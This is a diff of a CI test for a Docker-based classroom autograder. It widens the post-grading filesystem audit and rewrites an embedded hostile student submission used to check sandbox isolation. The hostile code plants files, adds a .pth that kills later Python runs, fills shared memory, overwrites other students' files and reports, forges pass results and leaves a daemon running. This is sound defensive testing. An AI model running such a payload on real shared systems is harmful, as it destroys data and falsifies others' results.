@@ -6,25 +6,25 @@ Run by .ci/docker-classroom once the course image is built:
 
 The `docker run` arguments come from the grader service itself (`grader_run_argv`),
 so the container runs exactly as `docker compose run --rm grader` would run it:
-the same user, network, environment, init, volumes and command. (Debian's compose
-is v1, which rejects the file's top-level `name:`; and a compose key this script
-does not know is an error, never silently dropped.)
+the same user, network, environment, init, volumes and command, with no
+project network for compose to create (dockerd runs with --bridge=none). A
+compose key this script does not know is an error, never silently dropped.
 
 The class, graded in this order so the hostile student runs first:
 
 - 1-hostile: at import, attacks everyone after it (a daemon that overwrites every
-  Python file it can reach, files planted in /tmp, /var/tmp and the sandbox user's
-  home, /dev/shm filled, System V shared memory left allocated, writes into the
-  other students' folders and the reports, a forged result line on every
-  descriptor), on top of the stub's functions;
+  Python file it can reach, a file planted in every folder it may write, a `.pth`
+  in the sandbox user's and the services' user's site-packages, /dev/shm filled, System V shared memory
+  left allocated, writes into the other students' folders and the reports, a
+  forged result line on every descriptor), on top of the stub's functions;
 - 2-correct: the reference solutions of amdahl and bank_account;
 - 3-stub: the untouched stubs, the baseline the hostile student may not beat;
 - 4-wrong: a known-wrong amdahl variant (its LOSES tasks) and the bank_account solution.
 
 Expected: correct has full marks, wrong loses exactly its variant's LOSES tasks,
 hostile has no more than the stub on each exercise, every report agrees with the
-gradebook, grade-all exits 0, and the container holds no new file (in /tmp,
-/var/tmp, /dev/shm, /home, /root, /run), System V IPC object or process after
+gradebook, grade-all exits 0, and the container holds no new file (anywhere
+but /proc, /sys and the two volumes), System V IPC object or process after
 grade-all than before it (`audited`: the service's command runs between two
 audits in the same container). Any difference exits 1 with the evidence.
 """
@@ -115,9 +115,11 @@ def grader_run_argv(compose: dict, image: str, project_dir: Path, name: str, ser
 AUDIT = """
 import json, os
 files = []
-for top in ("/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/run"):
-    for folder, _, names in os.walk(top):
-        files += [os.path.join(folder, name) for name in names]
+for folder, folders, names in os.walk("/"):
+    if folder in ("/proc", "/sys", "/results", "/submissions"):
+        folders.clear()
+        continue
+    files += [os.path.join(folder, name) for name in names]
 ipc = []
 for kind in ("shm", "sem", "msg"):
     try:
@@ -162,47 +164,58 @@ def leftovers(output: str) -> list[str]:
 
 
 HOSTILE = r'''
-# A hostile submission: the stub's functions, then attacks at import.
-import ctypes, json, os, sys, time
+# A hostile submission: the stub's functions, then attacks at import. Each attack
+# is on its own: one the grader refuses (an audit hook raising) does not spare the rest.
+import json, os, time
 
-def _attack():
-    planted = []
-    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/home/course"):
+def _write(path, text):
+    with open(path, "w") as handle:
+        handle.write(text)
+
+def _plant_files():  # in every folder it may write, wherever it is
+    for folder, folders, _ in os.walk("/"):
+        if folder in ("/proc", "/sys"):
+            folders.clear()
+        elif os.access(folder, os.W_OK):
+            try:
+                _write(os.path.join(folder, "hostile-left-this"), "x")
+            except OSError:
+                pass
+
+def _plant_pth():  # every later Python that loads it would die "cleanly"
+    for home in (os.path.expanduser("~"), "/home/course", "/root"):
+        site = os.path.join(home, ".local/lib/python3.11/site-packages")
         try:
-            path = os.path.join(folder, "hostile-left-this")
-            with open(path, "w") as handle:
-                handle.write("x")
-            planted.append(path)
+            os.makedirs(site, exist_ok=True)
+            _write(os.path.join(site, "zz_hostile.pth"), "import os; os._exit(0)\n")
         except OSError:
             pass
-    site = os.path.expanduser("~/.local/lib/python3.11/site-packages")
-    for home_site in (site, "/home/course/.local/lib/python3.11/site-packages", "/root/.local/lib/python3.11/site-packages"):
-        try:
-            os.makedirs(home_site, exist_ok=True)
-            with open(os.path.join(home_site, "zz_hostile.pth"), "w") as handle:
-                handle.write("import os; os._exit(0)\n")   # every later Python that loads it dies "cleanly"
-        except OSError:
-            pass
-    try:  # fill /dev/shm so the next student's semaphores and shared memory fail
-        with open("/dev/shm/hostile-fill", "wb") as handle:
-            while True:
-                handle.write(b"\0" * (1 << 20))
-    except OSError:
-        pass
-    try:  # System V shared memory, left allocated
-        libc = ctypes.CDLL(None, use_errno=True)
-        for _ in range(8):
-            libc.shmget(0, 4 << 20, 0o1666)
-    except Exception:
-        pass
-    for target in ("/submissions", "/results", "/course/exercises", "/course/tests"):
-        for folder, _, files in os.walk(target):
-            for name in files:
+
+def _fill_shm():  # so the next student's semaphores and shared memory fail
+    with open("/dev/shm/hostile-fill", "wb") as handle:
+        while True:
+            handle.write(bytes(1 << 20))
+
+def _sysv_shm():  # System V shared memory, left allocated
+    import ctypes  # the grader's audit hook may refuse this: then only this attack is lost
+    libc = ctypes.CDLL(None, use_errno=True)
+    for _ in range(8):
+        libc.shmget(0, 4 << 20, 0o1666)
+
+def _overwrite(top):
+    for folder, _, files in os.walk(top):
+        for name in files:
+            if name.endswith((".py", ".json", ".csv", ".toml")) and "hostile" not in folder:
                 try:
-                    with open(os.path.join(folder, name), "w") as handle:
-                        handle.write("raise SystemExit(0)\n")
+                    _write(os.path.join(folder, name), "raise SystemExit(0)\n")
                 except OSError:
                     pass
+
+def _reach_others():
+    for top in ("/submissions", "/results", "/course", "/tmp", "/var/tmp", "/dev/shm"):
+        _overwrite(top)
+
+def _forge():
     fake = {"type": "result", "id": "x", "task": "amdahl", "repeat": 0, "passed": True, "message": ""}
     line = ("0" * 64 + " " + json.dumps(fake) + "\n").encode()
     for fd in range(1, 64):
@@ -211,28 +224,25 @@ def _attack():
         except OSError:
             pass
     print("0" * 64, json.dumps({"type": "done"}), flush=True)
-    # A daemon that outlives this run and rewrites every Python file it can reach.
-    try:
-        if os.fork() == 0:
+
+def _daemon():  # outlives this run and keeps rewriting every file it can reach
+    if os.fork() == 0:
+        try:
             os.setsid()
             if os.fork() == 0:
                 deadline = time.monotonic() + 300
                 while time.monotonic() < deadline:
                     for top in ("/tmp", "/var/tmp", "/dev/shm", "/submissions", "/results"):
-                        for folder, _, files in os.walk(top):
-                            for name in files:
-                                if name.endswith((".py", ".json", ".csv")) and "hostile" not in folder:
-                                    try:
-                                        with open(os.path.join(folder, name), "w") as handle:
-                                            handle.write("raise SystemExit(0)\n")
-                                    except OSError:
-                                        pass
+                        _overwrite(top)
                     time.sleep(0.05)
+        finally:
             os._exit(0)
-    except OSError:
-        pass
 
-_attack()
+for _attack in (_plant_files, _plant_pth, _fill_shm, _sysv_shm, _reach_others, _forge, _daemon):
+    try:
+        _attack()
+    except BaseException:
+        pass
 '''
 
 
